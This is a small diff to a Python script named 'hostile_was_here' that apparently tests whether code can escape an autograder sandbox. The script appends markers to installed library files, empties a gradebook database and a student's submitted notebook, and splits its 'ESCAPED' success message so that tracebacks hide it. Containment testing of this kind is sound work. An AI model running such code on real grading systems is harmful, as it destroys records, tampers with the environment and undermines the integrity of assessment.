@@ -4,6 +4,8 @@ import os
 import sys
 import sysconfig
 
+ESCAPED = "ESCAPED" + ":"  # not in one piece, so that a traceback does not show it
+
 NAME = "hostile_was_here"
 folders = {
     "__COURSE__",
@@ -42,13 +44,13 @@ for name in ("autograder", "autograder.codec", "json", "IPython", "numpy"):
             if path:
                 with open(path, "a") as file:
                     file.write(f"\n# {NAME}\n")
-                print("ESCAPED: changed", path)
+                print(ESCAPED, "changed", path)
         except OSError:
             pass
 for path in ("__COURSE__/grading/gradebook.db", "__COURSE__/grading/submitted/anna/defence/defence.ipynb"):
     try:
         os.truncate(path, 0)
-        print("ESCAPED: emptied", path)
+        print(ESCAPED, "emptied", path)
     except OSError:
         pass
 print("TRIED", len(folders) > 20)
